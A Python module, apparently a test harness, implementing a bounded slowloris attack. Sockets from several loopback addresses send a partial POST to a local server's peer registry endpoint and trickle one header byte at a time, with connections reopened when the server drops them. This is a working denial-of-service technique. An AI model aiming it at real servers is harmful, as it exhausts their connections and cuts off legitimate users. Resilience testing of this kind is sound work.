"""A bounded slowloris: connections from several loopback source addresses that trickle their
request headers one byte at a time and are reopened when the server closes them."""

import socket
import threading

_PARTIAL = b"POST /peer/registry HTTP/1.1\r\nHost: supernode\r\nContent-Type: application/json\r\n"


class SlowFlood:
    """`per_source` connections from each of `sources` to `port`, topped up every `interval`
    seconds for at most `rounds` rounds (and until stop())."""

    def __init__(self, port: int, sources: "list[str]", per_source: int, *, interval: float = 1.0, rounds: int = 120):
        self.port, self.sources, self.per_source = port, sources, per_source
        self.interval, self.rounds = interval, rounds
        self.conns: dict[str, list[socket.socket]] = {s: [] for s in sources}
        self.opened = 0
        self.closed_by_server = 0
        self.rounds_done = 0
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)

    def __enter__(self):
        self._top_up()
        self._thread.start()
        return self

    def __exit__(self, *exc):
        self.stop()

    def stop(self) -> None:
        self._stop.set()
        if self._thread.is_alive():
            self._thread.join(timeout=10)
        for conns in self.conns.values():
            for s in conns:
                s.close()
            conns.clear()

    def held(self) -> int:
        return sum(len(c) for c in self.conns.values())

    def _run(self) -> None:
        for _ in range(self.rounds):
            if self._stop.wait(self.interval):
                return
            self._trickle()
            self._top_up()
            self.rounds_done += 1

    def _top_up(self) -> None:
        for source, conns in self.conns.items():
            while len(conns) < self.per_source and not self._stop.is_set():
                s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
                s.settimeout(2)
                try:
                    s.bind((source, 0))
                    s.connect(("127.0.0.1", self.port))
                    s.sendall(_PARTIAL)
                except OSError:
                    s.close()
                    break
                self.opened += 1
                conns.append(s)

    def _trickle(self) -> None:
        """One more header byte on every connection; drop those the server has answered or closed."""
        for conns in self.conns.values():
            alive = []
            for s in conns:
                try:
                    s.setblocking(False)
                    try:
                        answered = s.recv(1, socket.MSG_PEEK)
                    except BlockingIOError:
                        answered = None
                    s.settimeout(2)
                    if answered is not None:  # an answer (408/503) or EOF: the server let go
                        raise ConnectionResetError
                    s.sendall(b"X")
                    alive.append(s)
                except OSError:
                    self.closed_by_server += 1
                    s.close()
            conns[:] = alive
